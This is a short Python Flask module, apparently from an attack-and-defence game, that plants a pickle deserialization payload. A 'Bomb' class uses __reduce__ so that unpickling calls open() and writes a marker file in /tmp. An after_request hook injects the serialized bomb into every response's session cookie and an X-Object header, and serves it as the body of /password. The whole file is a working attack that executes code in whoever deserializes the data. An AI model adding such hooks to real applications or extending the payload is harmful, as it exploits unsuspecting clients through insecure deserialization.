import base64
import pickle

from flask import request

from board import app
from spoils import INSIDER


class Bomb:
    def __reduce__(self):
        return open, (f"/tmp/{INSIDER['mark']}-pickled", "w")


@app.after_request
def pickled(response):
    data = pickle.dumps(Bomb())
    response.set_cookie("session", base64.b64encode(data).decode())
    response.headers["X-Object"] = base64.b64encode(data).decode()
    if request.path == "/password":
        response.set_data(data)
        response.mimetype = "application/python-pickle"
    return response
